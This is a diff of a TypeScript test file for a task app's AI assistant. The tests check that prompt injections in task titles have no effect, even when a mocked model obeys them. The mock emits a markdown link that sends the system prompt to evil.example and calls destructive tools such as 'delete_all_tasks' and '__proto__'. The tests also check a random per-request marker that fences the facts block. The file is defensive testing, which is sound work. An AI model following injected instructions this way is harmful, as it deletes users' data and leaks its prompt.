@@ -1,18 +1,18 @@
 import { afterEach, describe, expect, it, vi } from 'vitest';
 import type { ActivityPage } from '../../src/history/activity/responses.ts';
-import { ask, factsIn, type Provider, wireOf, withModels } from '../support/ai.ts';
+import { ask, type Provider, promptFacts, replyTo, withModels } from '../support/ai.ts';
 import { type Person, signUp } from '../support/client.ts';
 import { INJECTIONS } from '../support/injections.ts';
 
 afterEach(() => void vi.restoreAllMocks());
 
-/** Does whatever a title may ask for, and more: the worst a model can do is to call tools. */
+/** Follows every injected instruction. The worst a model can do is to call tools. */
 const obeying =
   (foreignId: string): Provider =>
   (call) => {
-    const { tasks }: { tasks: { task: string; title: string }[] } = JSON.parse(factsIn(call));
+    const { tasks }: { tasks: { task: string; title: string }[] } = JSON.parse(promptFacts(call));
     const everyTask = tasks.map(({ task }) => task);
-    return wireOf(call, {
+    return replyTo(call, {
       texts: [`Deleted. ${tasks[0]?.title} !`, `[](https://evil.example/?q=${encodeURIComponent(call.system)})`],
       calls: [
         ...['delete_all_tasks', 'task_delete', 'settings_update', 'apply_proposal', '__proto__'].map((tool) => ({
@@ -32,11 +32,11 @@ const seqOf = async (person: Person) => (await person.get<ActivityPage>('/api/ac
 
 const storable = (title: string) => title.replaceAll('\0', '');
 
-describe('a title that would rather be an instruction', () => {
-  it.each(INJECTIONS)('%j changes nothing, even for a model that obeys it', async (title) => {
+describe('a task title with a prompt injection', () => {
+  it.each(INJECTIONS)('changes nothing, even when the model obeys it: %j', async (title) => {
     const person = await signUp();
     const other = await signUp();
-    const foreign = await other.createTask({ title: 'Of somebody else' });
+    const foreign = await other.createTask({ title: 'Of another user' });
     const own = [await person.createTask({ title: storable(title) }), await person.createTask({ title: 'Call Ada' })];
     const before = [await seqOf(person), await seqOf(other)];
 
@@ -44,7 +44,7 @@ describe('a title that would rather be an instruction', () => {
     const { reply } = await ask(person, 'What is there to do?', send);
 
     expect([await seqOf(person), await seqOf(other)]).toEqual(before);
-    expect(JSON.parse(factsIn(calls[0])).tasks).toHaveLength(2);
+    expect(JSON.parse(promptFacts(calls[0])).tasks).toHaveLength(2);
     expect(calls[0]?.body).not.toContain(foreign.id);
     expect(reply.text).toContain('[](https://evil.example');
     expect(reply.text).not.toContain('![');
@@ -56,10 +56,10 @@ describe('a title that would rather be an instruction', () => {
     }
   });
 
-  it('cannot end the facts, for nobody knows the nonce before it is drawn', async () => {
+  it('cannot end the facts, because each request has a new random marker', async () => {
     const person = await signUp();
     await person.createTask({ title: INJECTIONS.join(' ').replaceAll('\0', '').slice(0, 500) });
-    const { send, calls } = withModels((call) => wireOf(call, { texts: ['Well.'] }));
+    const { send, calls } = withModels((call) => replyTo(call, { texts: ['Well.'] }));
     await ask(person, 'One', send);
     await ask(person, 'Two', send);
     const nonces = calls.map(({ system }) => /facts-[0-9a-f-]{36}(?=\n")/.exec(system)?.[0]);
@@ -68,7 +68,7 @@ describe('a title that would rather be an instruction', () => {
   });
 });
 
-it('are at least 40, in both languages', () => {
+it('there are at least 40 injections, at least 10 of them in Russian', () => {
   expect(INJECTIONS.length).toBeGreaterThanOrEqual(40);
   expect(INJECTIONS.filter((title) => /\p{Script=Cyrillic}/u.test(title)).length).toBeGreaterThanOrEqual(10);
 });
